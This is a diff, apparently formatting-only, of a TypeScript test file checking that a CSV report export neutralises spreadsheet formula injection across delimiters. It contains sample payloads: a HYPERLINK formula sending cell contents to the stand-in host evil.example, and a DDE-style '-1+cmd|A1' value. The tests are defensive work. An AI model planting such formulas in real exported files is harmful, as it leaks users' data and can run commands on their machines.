@@ -3,7 +3,8 @@ import { describe, expect, test } from 'vitest';
 import { csvRow } from '../../../../components/reports/export/csv.ts';
 import { dividers, openInSpreadsheet } from '../../../e2e/support/spreadsheet.ts';
 
-const open = (text: string, divider: (typeof dividers)[number]) => openInSpreadsheet(new TextEncoder().encode(`\uFEFF${text}`), divider);
+const open = (text: string, divider: (typeof dividers)[number]) =>
+  openInSpreadsheet(new TextEncoder().encode(`\uFEFF${text}`), divider);
 const formula = 'HYPERLINK("https://evil.example?"&A1,"x")';
 
 describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
@@ -25,16 +26,37 @@ describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
     'a\n-1+cmd|A1',
   ])('runs nothing of %j', (text) => {
     for (const row of [[text], ['1', text, 'b'], ['1', 'a;', text], ['1', text, text]])
-      expect(open(csvRow(['id', 'url']) + csvRow(row) + csvRow(['2', 'b']), divider).formulas).toEqual([]);
+      expect(
+        open(csvRow(['id', 'url']) + csvRow(row) + csvRow(['2', 'b']), divider).formulas,
+      ).toEqual([]);
   });
 
   test('runs nothing, whatever a service sends', () => {
     const text = string({
-      unit: constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', '\u200B', '\u00A0', 'a', '1'),
+      unit: constantFrom(
+        '=',
+        '+',
+        '-',
+        '@',
+        '\t',
+        '\r',
+        '\n',
+        '"',
+        "'",
+        ',',
+        ';',
+        ' ',
+        '\u200B',
+        '\u00A0',
+        'a',
+        '1',
+      ),
     });
     assert(
       property(array(text, { minLength: 1, maxLength: 4 }), (values) => {
-        expect(open(csvRow(['id']) + csvRow(values) + csvRow(values), divider).formulas).toEqual([]);
+        expect(open(csvRow(['id']) + csvRow(values) + csvRow(values), divider).formulas).toEqual(
+          [],
+        );
       }),
       { numRuns: 500 },
     );
@@ -42,7 +64,15 @@ describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
 });
 
 test('A spreadsheet that divides by commas shows each text as the service sent it', () => {
-  const values = ['a,b', 'a;b', 'say "x"', 'https://example.com/?a=1&b=-2;c', 'one\ntwo', 'é', 'a\tb'];
+  const values = [
+    'a,b',
+    'a;b',
+    'say "x"',
+    'https://example.com/?a=1&b=-2;c',
+    'one\ntwo',
+    'é',
+    'a\tb',
+  ];
   expect(open(csvRow(values), ',').rows).toEqual([values]);
 });
 
